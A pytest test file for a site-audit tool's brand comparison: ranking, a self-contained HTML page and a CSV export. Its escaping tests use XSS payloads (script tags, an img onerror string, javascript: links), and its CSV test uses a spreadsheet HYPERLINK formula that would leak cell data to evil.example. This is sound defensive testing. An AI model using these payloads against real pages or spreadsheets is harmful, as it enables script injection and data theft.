"""The brands comparison: the ranking, its HTML page and its CSV export."""

from __future__ import annotations

import csv
import io
import re

import pytest

from checker.report.comparison import (
    CSV_COLUMNS,
    BrandOutcome,
    comparison_csv,
    csv_safe,
    ranking,
    render_comparison,
)

STARTED = "2024-05-01T10:00:00+00:00"
HOSTILE_NAME = "<script>alert(1)</script>"
HOSTILE_MESSAGE = '"><img src=x onerror=alert(1)>'


def brand(
    name: str,
    overall: int | None = None,
    layout: int | None = None,
    speed: int | None = None,
    social: int | None = None,
    **kwargs: object,
) -> BrandOutcome:
    values: dict[str, object] = {
        "name": name,
        "url": f"https://{name.lower().replace(' ', '-')}.example/",
        "status": "ok",
        "scores": {"overall": overall, "layout": layout, "speed": speed, "social": social},
        "pages": 10,
        "errors": 0,
        "report": f"{name.lower()}/report.html",
        "message": None,
    }
    values.update(kwargs)
    return BrandOutcome(**values)  # type: ignore[arg-type]


def failed(name: str, message: str = "The site did not answer.") -> BrandOutcome:
    return brand(name, status="failed", pages=0, errors=1, report=None, message=message)


BRANDS = [
    failed("Down"),
    brand("Beta", 70, layout=90, speed=40, social=80),
    brand("Alpha", 70, layout=60, speed=95, social=None),
    brand("Gamma", 85, layout=80, speed=80, social=95),
    brand("Empty"),  # audited, but no page had a score
]


@pytest.fixture(scope="module")
def page() -> str:
    return render_comparison(BRANDS, STARTED, csv_href="comparison.csv")


def rows(html: str) -> list[str]:
    body = html[html.index("<tbody>") : html.index("</tbody>")]
    return body.split("<tr ")[1:]


def names(html: str) -> list[str]:
    return [re.search(r'class="brand-name">([^<]*)<', row)[1] for row in rows(html)]  # type: ignore[index]


def test_ranking_orders_by_overall_score_with_shared_ranks_for_ties() -> None:
    ranked = [(r.rank, r.brand.name) for r in ranking(BRANDS)]
    assert ranked == [(1, "Gamma"), (2, "Alpha"), (2, "Beta"), (None, "Empty"), (None, "Down")]


def test_ranking_by_a_category_puts_brands_without_that_score_after_the_scored() -> None:
    ranked = [(r.rank, r.brand.name) for r in ranking(BRANDS, "social")]
    assert ranked == [(1, "Gamma"), (2, "Beta"), (None, "Alpha"), (None, "Empty"), (None, "Down")]


def test_ranking_puts_failed_brands_last_whatever_their_scores() -> None:
    down = brand("Down", 100, status="failed", message="Boom")
    assert [r.brand.name for r in ranking([down, brand("Low", 5)])] == ["Low", "Down"]
    assert ranking([down])[0].rank is None


def test_comparison_page_lists_brands_by_overall_rank_with_failed_last(page: str) -> None:
    assert names(page) == ["Gamma", "Alpha", "Beta", "Empty", "Down"]
    ranks = [re.search(r'class="num rank">([^<]*)<', row)[1] for row in rows(page)]  # type: ignore[index]
    assert ranks == ["1", "2", "2", "—", "—"]
    down = rows(page)[-1]
    assert 'class="failed"' in down
    assert ">failed</span> The site did not answer." in down


def test_comparison_page_carries_every_category_ranking_for_its_sort_buttons(page: str) -> None:
    for key in ("overall", "layout", "speed", "social"):
        assert f'<button type="button" data-key="{key}">' in page
    by_speed = sorted(
        rows(page),
        key=lambda row: int(re.search(r'data-order-speed="(\d+)"', row)[1]),  # type: ignore[index]
    )
    assert names("<tbody>" + "".join("<tr " + r for r in by_speed) + "</tbody>") == [
        "Alpha",
        "Gamma",
        "Beta",
        "Empty",
        "Down",
    ]
    gamma = rows(page)[0]
    assert 'data-rank-speed="2"' in gamma and 'data-rank-social="1"' in gamma


def test_comparison_page_shows_scores_in_bands_and_pages_with_errors(page: str) -> None:
    gamma = rows(page)[0]
    chips = re.findall(r'class="chip band-(\w+)" title="(\w+)">([^<]*)<', gamma)
    assert chips == [
        ("average", "Overall", "85"),
        ("average", "Layout", "80"),
        ("average", "Speed", "80"),
        ("pass", "Social", "95"),
        ("na", "Accessibility", "n/a"),
    ]
    assert ">n/a<" in rows(page)[-1]
    assert "1 not audited" in rows(page)[-1]


def test_comparison_page_is_self_contained_and_links_reports_and_csv(page: str) -> None:
    assert page.startswith("<!DOCTYPE html>")
    assert not re.search(r"<link\b|src=", page)
    assert '<time datetime="2024-05-01T10:00:00+00:00">1 May 2024, 10:00 UTC</time>' in page
    assert "5 brands" in page and "1 failed" in page
    assert 'href="gamma/report.html"' in page
    assert 'href="comparison.csv" download' in page


def test_comparison_page_escapes_brand_names_urls_and_messages() -> None:
    hostile = [
        brand(HOSTILE_NAME, 50, url="javascript:alert(1)", report="javascript:alert(1)"),
        brand("Absolute", 40, report="//evil.example/report.html"),
        brand("Spaces", 30, report="brands/a b#1/report.html"),
        failed("Broken", message=HOSTILE_MESSAGE),
    ]
    html = render_comparison(hostile, '"><script>alert(2)</script>')
    assert "<script>alert" not in html and "<img src=x" not in html
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html
    assert "&#34;&gt;&lt;img src=x onerror=alert(1)&gt;" in html
    hrefs = re.findall(r'href="([^"]*)"', html)
    assert "javascript%3Aalert%281%29" in hrefs  # a relative file name, not a script
    assert "brands/a%20b%231/report.html" in hrefs
    assert not any(h.startswith(("javascript:", "//")) for h in hrefs)
    assert "javascript:alert(1)" in html  # the brand's URL, shown as text


def test_comparison_page_without_brands_says_so() -> None:
    html = render_comparison([], STARTED)
    assert "No brands were audited." in html
    assert "<table" not in html and "download" not in html


def parse(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def test_comparison_csv_has_the_columns_and_rows_in_rank_order() -> None:
    table = parse(comparison_csv(BRANDS))
    assert (
        table[0]
        == list(CSV_COLUMNS)
        == [
            "rank",
            "name",
            "url",
            "status",
            "overall",
            "layout",
            "speed",
            "social",
            "accessibility",
            "pages",
            "errors",
            "report",
            "message",
        ]
    )
    assert table[1] == [
        "1",
        "Gamma",
        "https://gamma.example/",
        "ok",
        "85",
        "80",
        "80",
        "95",
        "",
        "10",
        "0",
        "gamma/report.html",
        "",
    ]
    assert [row[1] for row in table[1:]] == ["Gamma", "Alpha", "Beta", "Empty", "Down"]
    assert table[2][7] == ""  # no social score
    assert table[-1] == [
        "",
        "Down",
        "https://down.example/",
        "failed",
        "",
        "",
        "",
        "",
        "",
        "0",
        "1",
        "",
        "The site did not answer.",
    ]


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_comparison_csv_defuses_cells_a_spreadsheet_would_run(start: str) -> None:
    payload = f'{start}HYPERLINK("https://evil.example/?"&A1,"Click")'
    evil = brand(payload, 50, url=payload, report=payload, message=payload)
    row = parse(comparison_csv([evil]))[1]
    for column in ("name", "url", "report", "message"):
        assert row[CSV_COLUMNS.index(column)] == "'" + payload


def test_comparison_csv_keeps_harmless_cells_and_numbers_as_they_are() -> None:
    assert csv_safe("Acme = best") == "Acme = best"
    assert csv_safe("") == ""
    row = parse(comparison_csv([brand("Acme, Inc.\nEurope", 50, layout=0)]))[1]
    assert row[1] == "Acme, Inc.\nEurope"
    assert row[4:6] == ["50", "0"]
